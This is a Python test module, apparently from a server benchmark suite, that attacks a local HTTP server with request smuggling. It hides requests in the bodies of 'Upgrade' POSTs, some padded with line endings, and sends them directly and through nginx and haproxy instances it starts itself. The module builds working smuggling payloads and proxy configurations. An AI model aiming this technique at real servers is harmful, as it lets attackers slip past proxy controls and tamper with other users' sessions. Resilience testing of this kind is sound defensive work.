"""Requests hidden in the body of a request with `Upgrade`: directly, and behind nginx and haproxy."""

from __future__ import annotations

import asyncio
import os
import shutil
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path

from benchmarks.attack.http import Connection, connect, observations, request
from benchmarks.attack.result import Result, Run, View, observed
from benchmarks.attack.server import serving
from benchmarks.dialects import HOST
from benchmarks.ports import free_port

PAUSE_SECONDS, ATTACK_SECONDS, ATTACKERS = 0.15, 5.0, 4
LINE_ENDS = b"\r\n" * 40_000
PROXIES = {"nginx": shutil.which("nginx"), "haproxy": shutil.which("haproxy")}
NGINX = """
daemon off;
worker_processes 1;
{user}
pid {folder}/pid;
error_log {folder}/error.log;
events {{ worker_connections 256; }}
http {{
    access_log off;
    client_body_temp_path {folder}/body;
    proxy_temp_path {folder}/proxy;
    fastcgi_temp_path {folder}/fastcgi;
    uwsgi_temp_path {folder}/uwsgi;
    scgi_temp_path {folder}/scgi;
    map $http_upgrade $connection_upgrade {{ default upgrade; '' ''; }}
    keepalive_requests 1000000;
    upstream carryover {{ server 127.0.0.1:{target}; keepalive 4; keepalive_requests 1000000; }}
    server {{
        listen 127.0.0.1:{port};
        location / {{
            proxy_pass http://carryover;
            proxy_http_version 1.1;

            proxy_set_header Host localhost;
            proxy_set_header Upgrade $http_upgrade;
            proxy_set_header Connection $connection_upgrade;
        }}
    }}
}}
"""
HAPROXY = """
global
    maxconn 256
defaults
    mode http
    timeout connect 2s
    timeout client 20s
    timeout server 20s
    http-reuse always
frontend front
    bind 127.0.0.1:{port}
    default_backend back
backend back
    server carryover 127.0.0.1:{target} maxconn 8
"""


async def smuggling(run: Run) -> AsyncIterator[Result]:
    """Directly, and behind each proxy that is installed."""
    yield await _smuggle(run, None)
    for proxy, program in PROXIES.items():
        if program:
            yield await _smuggle(run, proxy)


async def _smuggle(run: Run, proxy: str | None) -> Result:
    folder = run.new_folder()
    tally = _Tally()
    async with serving(run.target, folder) as server, _proxied(proxy, server.port, folder) as port:
        async with observed(run, server, port) as view:
            deadline = time.monotonic() + max(1.0, ATTACK_SECONDS * run.scale)
            await asyncio.gather(*(tally.attack(port, deadline) for _ in range(ATTACKERS)))
        async with connect(server.port) as connection:
            status, _ = await connection.request("GET", "/sessions/smuggled")
    return tally.result(view, proxy, moved=status == 200)


class _Tally:
    """What the attackers sent, and what they were answered."""

    def __init__(self) -> None:
        self.sent = 0
        self.surplus = 0

    async def attack(self, port: int, deadline: float) -> None:
        """Send requests with `Upgrade` whose bodies are requests, until the deadline."""
        inner = observations("smuggled", 0.5, 0.25)
        while time.monotonic() < deadline:
            # Directly, the body needs only to arrive after the head. A proxy sends a large body in several
            # parts: a parser that begins anywhere in the line ends finds the request after them.
            body = inner if self.sent % 2 else LINE_ENDS + inner
            head = request("POST", "/sessions/outer/observations").decode().removesuffix("\r\n")
            head += f"connection: Upgrade\r\nupgrade: foo\r\ncontent-length: {len(body)}\r\n\r\n"
            self.sent += 1
            with suppress(OSError, asyncio.IncompleteReadError):
                async with connect(port) as connection:
                    await connection.send(head.encode() if body is inner else head.encode() + body)
                    if body is inner:
                        await asyncio.sleep(PAUSE_SECONDS)
                        await connection.send(inner)
                    self.surplus += max(0, await _count_answers(connection) - 1)

    def result(self, view: View, proxy: str | None, *, moved: bool) -> Result:
        name = "requests smuggled by Upgrade" + (f", behind {proxy}" if proxy else "")
        outcome = "the hidden session was created" if moved else "no hidden request was applied"
        if self.surplus:
            outcome += f"; {self.surplus} surplus answers"
        sent = f"{self.sent} requests with Upgrade from {ATTACKERS} connections"
        return view.result(name, sent, outcome, worked=moved or bool(self.surplus), bounded=False)


async def _count_answers(connection: Connection) -> int:
    answers = 0
    with suppress(TimeoutError, OSError, asyncio.IncompleteReadError):
        while True:
            await connection.answer(0.3)
            answers += 1
    return answers


@asynccontextmanager
async def _proxied(proxy: str | None, target: int, folder: Path) -> AsyncIterator[int]:
    """Start a proxy on a port of its own; without one, yield the server's port."""
    if proxy is None:
        yield target
        return
    port, config = free_port(), folder / f"{proxy}.conf"
    user = "user root;" if os.geteuid() == 0 else ""
    text = (NGINX if proxy == "nginx" else HAPROXY).format(port=port, target=target, folder=folder, user=user)
    config.write_text(text)
    program = str(PROXIES[proxy])
    command = [program, "-c", str(config)] if proxy == "nginx" else [program, "-f", str(config)]
    with (folder / f"{proxy}.log").open("ab") as log:
        process = await asyncio.create_subprocess_exec(*command, stdout=log, stderr=log)
    try:
        await _await_port(process, port, folder / f"{proxy}.log")
        yield port
    finally:
        if process.returncode is None:
            process.terminate()
        await process.wait()


async def _await_port(process: asyncio.subprocess.Process, port: int, log: Path) -> None:
    for _ in range(100):
        if process.returncode is not None:
            break
        with suppress(OSError):
            _, writer = await asyncio.open_connection(HOST, port)
            writer.close()
            return
        await asyncio.sleep(0.1)
    raise RuntimeError(f"the proxy did not start: {_tail(log)}")


def _tail(log: Path) -> str:
    return log.read_text(errors="replace")[-500:]
